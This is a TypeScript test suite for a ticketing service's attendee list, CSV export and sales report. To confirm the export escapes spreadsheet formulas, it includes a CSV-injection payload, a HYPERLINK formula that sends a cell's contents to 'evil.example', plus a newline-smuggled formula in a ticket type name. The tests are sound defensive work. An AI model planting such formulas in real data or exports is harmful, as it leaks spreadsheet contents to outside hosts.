// An organiser's reports of one event: the attendee list (as JSON for the admin pages and the door, and
// as a CSV file for a spreadsheet) and the sales report. Admins only; exact for every order.
import { describe, expect, test } from 'bun:test'
import { api, errorCode, eventually, futureEvent, loginAdmin, registerUser, type Session, TEST_CARD } from '../support/api'
import { system } from '../support/system'

const card = TEST_CARD
const buy = (buyer: Session, eventId: string, ticketTypeId: string, quantity: number, extra: Record<string, unknown> = { payment: { card } }) =>
  api('/orders', { token: buyer.token, headers: { 'idempotency-key': crypto.randomUUID() }, body: { eventId, items: [{ ticketTypeId, quantity }], ...extra } })

type Row = { ticketId: string; orderId: string; ticketTypeName: string; status: string; attendeeName?: string; holderEmail?: string; buyerEmail?: string; passedOn: boolean; code?: string; checkedInAt?: string }

describe('event reports', () => {
  test('the attendee list: every ticket sold, with its name, holder and state; searched, filtered, paged; a CSV safe to open; the sales report adds it up', async () => {
    const admin = await loginAdmin()
    const event = await api('/events', { token: admin.token, body: futureEvent({ title: `Report night ${Math.random().toString(36).slice(2, 6)}`, timeZone: 'Asia/Kolkata' }) })
    const eventId = event.body.id as string
    const standing = (await api(`/events/${eventId}/ticket-types`, { token: admin.token, body: { name: 'Standing', priceCents: 2000, currency: 'EUR', capacity: 20 } })).body.id as string
    const vip = (await api(`/events/${eventId}/ticket-types`, { token: admin.token, body: { name: 'VIP', priceCents: 5000, currency: 'EUR', capacity: 5 } })).body.id as string
    expect((await api(`/events/${eventId}/vouchers`, { token: admin.token, body: { code: 'TENOFF', percentOff: 10, maxUses: 10 } })).status).toBe(201)

    const [ada, bob, cy, dee, eve] = await Promise.all(['report-ada', 'report-bob', 'report-cy', 'report-dee', 'report-eve'].map((tag) => registerUser(tag)))
    const adaOrder = await buy(ada!, eventId, standing, 2, { voucherCode: 'tenoff', payment: { card } })
    expect(adaOrder.body).toMatchObject({ status: 'paid', totalCents: 3600 })
    const adaTickets = (await api(`/orders/${adaOrder.body.id}/tickets`, { token: ada!.token })).body as Array<{ id: string; code: string }>
    // A name that a spreadsheet would run as a formula, and one in another script.
    const formula = '=HYPERLINK("http://evil.example/?"&A1,"open")'
    for (const [i, attendeeName] of [formula, 'Zoë Ångström'].entries())
      expect((await api(`/orders/${adaOrder.body.id}/tickets/${adaTickets[i]!.id}`, { token: ada!.token, method: 'PATCH', body: { attendeeName } })).status).toBe(200)
    const bobOrder = await buy(bob!, eventId, vip, 1)
    const bobTicket = (await api(`/orders/${bobOrder.body.id}/tickets`, { token: bob!.token })).body[0] as { id: string; code: string }
    expect((await api('/checkins', { token: admin.token, body: { code: bobTicket.code } })).status).toBe(200)
    const cyOrder = await buy(cy!, eventId, standing, 1)
    expect((await api(`/orders/${cyOrder.body.id}/refund`, { token: cy!.token, headers: { 'idempotency-key': crypto.randomUUID() }, body: {} })).status).toBe(200)
    // Not sold: a hold not paid, and a declined card.
    expect((await buy(dee!, eventId, standing, 1, {})).body.status).toBe('reserved')
    expect((await buy(eve!, eventId, vip, 1, { payment: { card: { ...card, number: '4000000000000002' } } })).status).toBe(402)

    const list = await api(`/events/${eventId}/attendees`, { token: admin.token })
    expect(list.status).toBe(200)
    expect(list.body).toMatchObject({ eventId, total: 4, page: 1, limit: 20, counts: { tickets: 4, valid: 2, checkedIn: 1, refunded: 1 } })
    const rows = list.body.items as Row[]
    // In the order they were bought, seat by seat.
    expect(rows.map((r) => [r.orderId, r.ticketTypeName, r.status])).toEqual([
      [adaOrder.body.id, 'Standing', 'valid'],
      [adaOrder.body.id, 'Standing', 'valid'],
      [bobOrder.body.id, 'VIP', 'checked_in'],
      [cyOrder.body.id, 'Standing', 'refunded'],
    ])
    expect(rows[0]).toMatchObject({ ticketId: adaTickets[0]!.id, attendeeName: formula, holderEmail: ada!.user.email, buyerEmail: ada!.user.email, passedOn: false, code: adaTickets[0]!.code })
    expect(rows[1]!.attendeeName).toBe('Zoë Ångström')
    expect(rows[2]).toMatchObject({ code: bobTicket.code, holderEmail: bob!.user.email })
    expect(rows[2]!.checkedInAt).toBeString()
    // A refunded ticket no longer admits anyone: no code.
    expect(rows[3]!.code).toBeUndefined()

    const search = async (query: string) => {
      const r = await api(`/events/${eventId}/attendees?${query}`, { token: admin.token })
      expect(r.status).toBe(200)
      // The counts stay the whole event's.
      expect(r.body.counts).toEqual({ tickets: 4, valid: 2, checkedIn: 1, refunded: 1 })
      return r.body as { items: Row[]; total: number }
    }
    expect((await search('q=ZOË')).items.map((r) => r.ticketId)).toEqual([adaTickets[1]!.id])
    expect((await search(`q=${encodeURIComponent(bob!.user.email.slice(0, 12))}`)).items.map((r) => r.orderId)).toEqual([bobOrder.body.id])
    expect((await search(`q=${cyOrder.body.id}`)).total).toBe(1)
    expect((await search('status=checked_in')).items.map((r) => r.ticketTypeName)).toEqual(['VIP'])
    expect((await search(`ticketTypeId=${standing}&status=valid`)).total).toBe(2)
    const second = await search('limit=3&page=2')
    expect(second.total).toBe(4)
    expect(second.items.map((r) => r.orderId)).toEqual([cyOrder.body.id])

    // The CSV: every ticket, a line each, without codes; the formula is text.
    const csv = await fetch(`${system().gatewayUrl}/api/events/${eventId}/attendees.csv`, { headers: { authorization: `Bearer ${admin.token}` } })
    expect(csv.status).toBe(200)
    expect(csv.headers.get('content-type')).toBe('text/csv; charset=utf-8')
    expect(csv.headers.get('content-disposition')).toBe(`attachment; filename="attendees-${eventId}.csv"`)
    const bytes = new Uint8Array(await csv.arrayBuffer())
    expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf])
    const text = new TextDecoder().decode(bytes)
    const lines = text.split('\r\n').filter(Boolean)
    expect(lines[0]).toBe('ticket,order,ticket type,seat,status,name,holder email,buyer email,passed on,checked in at,bought at,answers,extra')
    expect(lines).toHaveLength(5)
    expect(lines[1]).toStartWith(`${adaTickets[0]!.id},${adaOrder.body.id},Standing,,valid,"'=HYPERLINK(""http://evil.example/?""&A1,""open"")",${ada!.user.email},`)
    expect(lines[2]).toContain(',Zoë Ångström,')
    // Times on the venue's clock, with its offset (India: +05:30 all year), the same instants as the list's.
    const checkedIn = lines[3]!.split(',')[9]!
    expect(checkedIn).toEndWith('+05:30')
    expect(Date.parse(checkedIn)).toBe(Date.parse(rows[2]!.checkedInAt!))
    expect(lines[1]!.split(',').some((cell) => /^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d(\.\d{3})?\+05:30$/.test(cell))).toBe(true)
    for (const code of [adaTickets[0]!.code, adaTickets[1]!.code, bobTicket.code]) expect(text).not.toContain(code)
    const onlyRefunded = await fetch(`${system().gatewayUrl}/api/events/${eventId}/attendees.csv?status=refunded`, { headers: { authorization: `Bearer ${admin.token}` } })
    expect((await onlyRefunded.text()).split('\r\n').filter(Boolean)).toHaveLength(2)

    // The sales report adds the same orders up (the refund's money back once payments made it).
    const report = await eventually('the refund made', async () => {
      const r = await api(`/events/${eventId}/sales`, { token: admin.token })
      expect(r.status).toBe(200)
      return r.body.refundsUnderWay === 0 && r.body
    })
    expect(report.orders).toMatchObject({ paid: 2, refunded: 1, reserved: 1, failed: 1, cancelled: 0 })
    expect(report.unpricedOrders).toBe(0)
    expect(report.ticketTypes).toEqual([
      { ticketTypeId: standing, name: 'Standing', currency: 'EUR', sold: 2, refunded: 1, checkedIn: 0, salesCents: 4000 },
      { ticketTypeId: vip, name: 'VIP', currency: 'EUR', sold: 1, refunded: 0, checkedIn: 1, salesCents: 5000 },
    ])
    expect(report.money).toEqual([{ currency: 'EUR', takenCents: 10600, discountCents: 400, refundedCents: 2000, refundingCents: 0, netCents: 8600 }])
    // No ticket type carries a tax rate: no tax lines.
    expect(report.taxes).toEqual([])
  })

  test('a line break inside a value (a ticket type named over two lines) stays inside its quoted cell: no row of its own whose formula runs', async () => {
    const admin = await loginAdmin()
    const event = await api('/events', { token: admin.token, body: futureEvent() })
    const eventId = event.body.id as string
    const name = 'Back row\n=1+1'
    const type = await api(`/events/${eventId}/ticket-types`, { token: admin.token, body: { name, priceCents: 1000, currency: 'EUR', capacity: 5 } })
    expect(type.status).toBe(201)
    const buyer = await registerUser('report-newline')
    expect((await buy(buyer, eventId, type.body.id, 1)).body.status).toBe('paid')
    const text = await (await fetch(`${system().gatewayUrl}/api/events/${eventId}/attendees.csv`, { headers: { authorization: `Bearer ${admin.token}` } })).text()
    expect(text).toContain(',"Back row\n=1+1",')
    // Two records (the header and the ticket), each a line of its own: the name's line break is inside quotes.
    expect(text.split('\r\n').filter(Boolean)).toHaveLength(2)
  })

  test('a ticket type whose currency changed after some sales is a line per currency, never one sum', async () => {
    const admin = await loginAdmin()
    const eventId = (await api('/events', { token: admin.token, body: futureEvent() })).body.id as string
    const typeId = (await api(`/events/${eventId}/ticket-types`, { token: admin.token, body: { name: 'Seat', priceCents: 1000, currency: 'EUR', capacity: 10 } })).body.id as string
    const buyer = await registerUser('report-currency')
    expect((await buy(buyer, eventId, typeId, 1)).body.status).toBe('paid')
    const changed = await api(`/events/${eventId}/ticket-types/${typeId}`, { token: admin.token, method: 'PATCH', body: { name: 'Seat (USD)', currency: 'USD', priceCents: 1200 } })
    expect(changed.status).toBe(200)
    expect((await buy(buyer, eventId, typeId, 2)).body).toMatchObject({ status: 'paid', currency: 'USD', totalCents: 2400 })
    const report = (await api(`/events/${eventId}/sales`, { token: admin.token })).body
    expect(report.ticketTypes).toEqual([
      { ticketTypeId: typeId, name: 'Seat', currency: 'EUR', sold: 1, refunded: 0, checkedIn: 0, salesCents: 1000 },
      { ticketTypeId: typeId, name: 'Seat (USD)', currency: 'USD', sold: 2, refunded: 0, checkedIn: 0, salesCents: 2400 },
    ])
    expect(report.money.map((m: { currency: string; netCents: number }) => [m.currency, m.netCents])).toEqual([
      ['EUR', 1000],
      ['USD', 2400],
    ])
  })

  test('admins only; an unknown event is 404, a bad id or filter 400', async () => {
    const admin = await loginAdmin()
    const customer = await registerUser('report-peek')
    const eventId = (await api('/events', { token: admin.token, body: futureEvent() })).body.id as string
    for (const path of [`/events/${eventId}/attendees`, `/events/${eventId}/attendees.csv`, `/events/${eventId}/sales`]) {
      const asCustomer = await api(path, { token: customer.token })
      expect(asCustomer.status).toBe(403)
      expect(errorCode(asCustomer)).toBe('FORBIDDEN')
      expect((await api(path)).status).toBe(401)
    }
    const empty = await api(`/events/${eventId}/attendees`, { token: admin.token })
    expect(empty.body).toMatchObject({ items: [], total: 0, counts: { tickets: 0, valid: 0, checkedIn: 0, refunded: 0 } })
    expect((await api(`/events/${eventId}/sales`, { token: admin.token })).body).toMatchObject({ ticketTypes: [], money: [], orders: { paid: 0 } })
    const unknown = 'f'.repeat(24)
    for (const path of [`/events/${unknown}/attendees`, `/events/${unknown}/attendees.csv`, `/events/${unknown}/sales`]) {
      const r = await api(path, { token: admin.token })
      expect(r.status).toBe(404)
      expect(errorCode(r)).toBe('NOT_FOUND')
    }
    for (const query of ['status=paid', 'limit=500', 'ticketTypeId=nope', `q=${'x'.repeat(201)}`]) {
      const r = await api(`/events/${eventId}/attendees?${query}`, { token: admin.token })
      expect(r.status).toBe(400)
      expect(errorCode(r)).toBe('VALIDATION')
    }
    expect((await api('/events/not-an-id/sales', { token: admin.token })).status).toBe(400)
    // In the API documentation, the file under its own type (a path with a dot is a route here, not a static file).
    const doc = (await api('/docs/json')).body
    expect(Object.keys(doc.paths['/api/events/{id}/attendees.csv'].get.responses['200'].content)).toEqual(['text/csv'])
    for (const path of ['/api/events/{id}/attendees', '/api/events/{id}/sales', '/api/events/{id}/messages', '/api/audit']) expect(doc.paths[path]).toBeDefined()
  })
})
